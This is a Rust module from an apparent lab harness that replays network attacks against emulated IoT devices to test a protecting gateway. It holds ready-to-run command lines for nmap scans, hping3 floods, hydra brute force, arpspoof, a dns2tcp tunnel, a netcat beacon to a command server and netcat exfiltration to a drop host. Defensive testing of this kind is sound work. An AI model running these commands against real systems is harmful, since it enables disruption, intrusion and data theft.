//! What goes wrong in the lab: real tools against real services, each with the target that may be shut for it.

use std::{net::Ipv4Addr, process::Command};

use anyhow::Result;

use crate::{
    netns::Netns,
    sniffer::Sniffer,
    topology::{COMMAND, DROP, ELSEWHERE, GATEWAY, Topology},
};

/// Who attacks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Origin {
    /// A host on the internet, at a new address for each scenario.
    Outside,
    /// A device on the protected side.
    Device(&'static str),
}

/// One scenario.
#[derive(Clone, Copy, Debug)]
pub struct Attack {
    /// Name on the command line and in the report.
    pub name: &'static str,
    /// MITRE ATT&CK technique.
    pub technique: &'static str,
    /// What happens, for people.
    pub story: &'static str,
    /// Who attacks.
    pub origin: Origin,
    /// Whether only a device's own baseline can tell it from normal behaviour.
    pub needs_baseline: bool,
    /// Whether it goes on while devices are learned too, and must not become normal: by then it has no baseline.
    pub while_learning: bool,
    /// The tool, as shell words; `{me}`, `{camera}`, `{hub}`, `{plug}`, `{gateway}`, `{command}` and `{drop}` are filled in.
    tool: &'static str,
    /// Packets of the attack where they arrive, in pcap-filter syntax.
    filter: &'static str,
    /// Where they arrive.
    arrives: Arrival,
    /// Addresses of accomplices that may be blocked instead.
    accomplice: Option<Ipv4Addr>,
}

#[derive(Clone, Copy, Debug)]
enum Arrival {
    Device(&'static str),
    Internet,
}

/// Every scenario, rules first.
pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "vertical-scan",
        technique: "T1595",
        story: "a host on the internet scans the camera's ports with nmap",
        origin: Origin::Outside,
        needs_baseline: false,
        while_learning: false,
        tool: "nmap -n -Pn -sS -p- --max-rate 2000 --max-retries 1 {camera}",
        filter: "src host {me}",
        arrives: Arrival::Device("camera"),
        accomplice: None,
    },
    Attack {
        name: "syn-flood",
        technique: "T1499.001",
        story: "a host on the internet floods the camera's web server with SYNs by hping3",
        origin: Origin::Outside,
        needs_baseline: false,
        while_learning: false,
        tool: "hping3 -q -n -S -p 8080 -i u500 {camera}",
        filter: "src host {me}",
        arrives: Arrival::Device("camera"),
        accomplice: None,
    },
    Attack {
        name: "udp-flood",
        technique: "T1498.001",
        story: "a host on the internet floods the camera with UDP by hping3",
        origin: Origin::Outside,
        needs_baseline: false,
        while_learning: false,
        tool: "hping3 -q -n -2 -p 5004 -d 64 -i u250 {camera}",
        filter: "src host {me}",
        arrives: Arrival::Device("camera"),
        accomplice: None,
    },
    Attack {
        name: "icmp-flood",
        technique: "T1498.001",
        story: "a host on the internet floods the camera with pings by hping3",
        origin: Origin::Outside,
        needs_baseline: false,
        while_learning: false,
        tool: "hping3 -q -n -1 -d 56 -i u500 {camera}",
        filter: "src host {me}",
        arrives: Arrival::Device("camera"),
        accomplice: None,
    },
    Attack {
        name: "brute-force",
        technique: "T1110",
        story: "a host on the internet guesses the camera's FTP password with hydra",
        origin: Origin::Outside,
        needs_baseline: false,
        while_learning: false,
        tool: "hydra -I -q -t 16 -l admin -x 4:4:a {camera} ftp",
        filter: "src host {me}",
        arrives: Arrival::Device("camera"),
        accomplice: None,
    },
    Attack {
        name: "internal-scan",
        technique: "T1046",
        story: "a visitor's computer on the LAN scans the camera's ports with nmap, from port to port",
        origin: Origin::Device("visitor"),
        needs_baseline: false,
        while_learning: false,
        tool: "nmap -n -Pn -sS -p- --max-rate 2000 --max-retries 1 {camera}",
        filter: "ip and src host {me}",
        arrives: Arrival::Device("camera"),
        accomplice: None,
    },
    Attack {
        name: "horizontal-scan",
        technique: "T1046",
        story: "a visitor's computer looks for web servers in a whole network with nmap",
        origin: Origin::Device("visitor"),
        needs_baseline: false,
        while_learning: false,
        tool: "nmap -n -Pn -sS -p 80,443,8000,8080 --max-rate 100 --max-retries 1 {elsewhere}",
        filter: "src host {me} and dst net {elsewhere}",
        arrives: Arrival::Internet,
        accomplice: None,
    },
    Attack {
        name: "mirai-telnet",
        technique: "T1046",
        story: "the infected recorder looks for telnet servers at random addresses, as Mirai does",
        origin: Origin::Device("recorder"),
        needs_baseline: false,
        while_learning: false,
        tool: "hping3 -q -n -S -p 23 -i u10000 -I eth0 --rand-dest 203.0.113.x",
        filter: "src host {me} and dst net {elsewhere}",
        arrives: Arrival::Internet,
        accomplice: None,
    },
    Attack {
        name: "slow-scan",
        technique: "T1046",
        story: "a visitor's computer looks for mail servers too slowly for a count of ten seconds",
        origin: Origin::Device("visitor"),
        needs_baseline: false,
        while_learning: false,
        tool: "hping3 -q -n -S -p 25 -i u600000 -I eth0 --rand-dest 203.0.113.x",
        filter: "src host {me} and dst net {elsewhere}",
        arrives: Arrival::Internet,
        accomplice: None,
    },
    Attack {
        name: "arp-spoof",
        technique: "T1557.002",
        story: "a visitor's computer tells the camera that it is the gateway, with arpspoof",
        origin: Origin::Device("visitor"),
        needs_baseline: false,
        while_learning: false,
        tool: "arpspoof -i eth0 -t {camera} {gateway}",
        filter: "arp and ether src {mac} and arp[6:2] = 2",
        arrives: Arrival::Device("camera"),
        accomplice: None,
    },
    Attack {
        name: "arp-spoof-device",
        technique: "T1557.002",
        story: "a visitor's computer tells the hub that it is the smart plug, with arpspoof",
        origin: Origin::Device("visitor"),
        needs_baseline: false,
        while_learning: false,
        tool: "arpspoof -i eth0 -t {hub} {plug}",
        filter: "arp and ether src {mac} and arp[6:2] = 2 and arp[14:4] = {plug-hex}",
        arrives: Arrival::Device("hub"),
        accomplice: None,
    },
    Attack {
        name: "dns-tunnel",
        technique: "T1071.004",
        story: "the infected recorder carries data away through the gateway's own resolver, with dns2tcp",
        origin: Origin::Device("recorder"),
        needs_baseline: false,
        while_learning: false,
        tool: "sh -c 'while :; do head -c 200 /dev/urandom; sleep 0.2; done | dns2tcpc -z tunnel.test -r sink -l - {gateway}'",
        // The gateway asks in the recorder's place, and asks for nothing as long by itself.
        filter: "udp dst port 53 and greater 150",
        arrives: Arrival::Internet,
        accomplice: None,
    },
    Attack {
        name: "c2-beacon",
        technique: "T1071",
        story: "the infected recorder asks its command server for orders every second",
        origin: Origin::Device("recorder"),
        needs_baseline: true,
        while_learning: false,
        tool: "sh -c 'while :; do echo ready | nc -q 0 -w 1 {command} 4444 >/dev/null; sleep 1; done'",
        filter: "src host {me} and dst host {command}",
        arrives: Arrival::Internet,
        accomplice: Some(COMMAND),
    },
    Attack {
        name: "lateral-movement",
        technique: "T1021",
        story: "the infected recorder goes from device to device and fetches their web pages",
        origin: Origin::Device("recorder"),
        needs_baseline: true,
        while_learning: false,
        tool: "sh -c 'while :; do for host in {camera} {plug} {hub}; do printf \"GET / HTTP/1.0\\r\\n\\r\\n\" | nc -q 1 -w 1 $host 8080 \
               >/dev/null; sleep 1; done; done'",
        filter: "ip and src host {me} and dst port 8080",
        arrives: Arrival::Device("camera"),
        accomplice: None,
    },
    Attack {
        name: "exfiltration",
        technique: "T1048",
        story: "the infected recorder sends recordings away at 20 Mbit/s",
        origin: Origin::Device("recorder"),
        needs_baseline: true,
        while_learning: false,
        tool: "sh -c 'while :; do head -c 250000 /dev/zero; sleep 0.1; done | nc {drop} 443'",
        filter: "src host {me} and dst host {drop}",
        arrives: Arrival::Internet,
        accomplice: Some(DROP),
    },
    Attack {
        name: "poisoned-training",
        technique: "T1046",
        story: "a visitor's computer that came infected looks for telnet servers while it is learned, and the operator sets it free \
                each time",
        origin: Origin::Device("visitor"),
        needs_baseline: true,
        while_learning: true,
        tool: "hping3 -q -n -S -p 23 -i u100000 -I eth0 --rand-dest 203.0.113.x",
        filter: "src host {me} and dst net {elsewhere}",
        arrives: Arrival::Internet,
        accomplice: None,
    },
];

/// An attack, aimed.
#[derive(Debug)]
pub struct Aimed<'a> {
    /// What it is an aim of.
    pub attack: &'a Attack,
    topology: &'a Topology,
    me: Ipv4Addr,
    mac: &'static str,
}

impl Attack {
    /// The scenario of that name.
    pub fn by_name(name: &str) -> Option<&'static Self> {
        ATTACKS.iter().find(|attack| attack.name == name)
    }

    /// Gives the attacker its address; `number` makes it one of its own.
    pub fn aim<'a>(&'a self, topology: &'a Topology, number: u8) -> Result<Aimed<'a>> {
        let (me, mac) = match self.origin {
            Origin::Outside => (topology.become_attacker(number)?, ""),
            Origin::Device(name) => {
                let place = topology.device(name)?;
                (place.address, place.mac)
            }
        };
        Ok(Aimed { attack: self, topology, me, mac })
    }
}

impl Aimed<'_> {
    /// What may be shut for it, as Tidegate writes targets: the attacker's device or address, or an accomplice's.
    pub fn culprits(&self) -> Vec<String> {
        let own = if self.mac.is_empty() { self.me.to_string() } else { self.mac.to_owned() };
        std::iter::once(own).chain(self.attack.accomplice.map(|address| address.to_string())).collect()
    }

    /// The device whose service the attack itself may harm, besides the attacker's own.
    pub fn attacker_device(&self) -> Option<&'static str> {
        match self.attack.origin {
            Origin::Outside => None,
            Origin::Device(name) => Some(name),
        }
    }

    /// The tool, ready to start.
    pub fn tool(&self) -> Command {
        let words = words(&self.fill(self.attack.tool));
        let mut command = self.home().command(&words[0]);
        // hydra leaves a file where it is started.
        command.args(&words[1..]).current_dir(self.topology.directory());
        command
    }

    /// Watches attack packets as they leave the attacker.
    pub fn at_the_source(&self) -> Result<Sniffer> {
        Sniffer::start(self.home(), "eth0", &self.fill(self.attack.filter))
    }

    /// Watches attack packets as they arrive behind the gateway.
    pub fn at_the_victim(&self) -> Result<Sniffer> {
        let filter = self.fill(self.attack.filter);
        match self.attack.arrives {
            Arrival::Device(name) => Sniffer::start(&self.topology.device(name)?.netns, "eth0", &filter),
            Arrival::Internet => Sniffer::start(&self.topology.internet, "gw", &filter),
        }
    }

    fn home(&self) -> &Netns {
        let device = self.attacker_device().and_then(|name| self.topology.device(name).ok());
        device.map_or(&self.topology.attacker, |place| &place.netns)
    }

    fn fill(&self, template: &str) -> String {
        let address = |name| self.topology.device(name).map_or(Ipv4Addr::UNSPECIFIED, |place| place.address);
        template
            .replace("{me}", &self.me.to_string())
            .replace("{mac}", self.mac)
            .replace("{camera}", &address("camera").to_string())
            .replace("{hub}", &address("hub").to_string())
            .replace("{plug}", &address("plug").to_string())
            .replace("{plug-hex}", &format!("{:#x}", address("plug").to_bits()))
            .replace("{gateway}", &GATEWAY.to_string())
            .replace("{command}", &COMMAND.to_string())
            .replace("{drop}", &DROP.to_string())
            .replace("{elsewhere}", ELSEWHERE)
    }
}

/// Splits at spaces, except within single quotes.
fn words(line: &str) -> Vec<String> {
    let mut words = Vec::new();
    for (index, part) in line.split('\'').enumerate() {
        if index % 2 == 1 {
            words.push(part.to_owned());
        } else {
            words.extend(part.split_whitespace().map(str::to_owned));
        }
    }
    words
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "a test may stop at once")]
    use std::{collections::BTreeSet, time::Duration};

    use super::*;
    use crate::{process::Process, service::Services, wait_for};

    #[test]
    fn names_are_unique_and_lines_split_like_a_shell() {
        let names: BTreeSet<_> = ATTACKS.iter().map(|attack| attack.name).collect();
        assert_eq!(names.len(), ATTACKS.len());
        assert_eq!(words("sh -c 'a | b' c"), ["sh", "-c", "a | b", "c"]);
    }

    #[test]
    fn without_tidegate_every_attack_arrives() {
        if !crate::is_root() {
            crate::skipped("attack::without_tidegate_every_attack_arrives", "needs root for namespaces");
            return;
        }
        let _alone = crate::alone().unwrap();
        let topology = Topology::create().unwrap();
        let _services = Services::start(&topology).unwrap();
        let _devices = crate::device::Devices::start(&topology).unwrap();
        for (number, attack) in ATTACKS.iter().enumerate() {
            let aimed = attack.aim(&topology, number as u8).unwrap();
            let (source, victim) = (aimed.at_the_source().unwrap(), aimed.at_the_victim().unwrap());
            let tool = Process::start(&mut aimed.tool(), &topology.directory().join("tool.log")).unwrap();
            let arrived = wait_for(Duration::from_secs(10), || (victim.count() >= 3).then_some(()));
            assert!(
                arrived.is_some(),
                "{}: {} packets sent, {} arrived; {}",
                attack.name,
                source.count(),
                victim.count(),
                tool.said()
            );
        }
    }
}
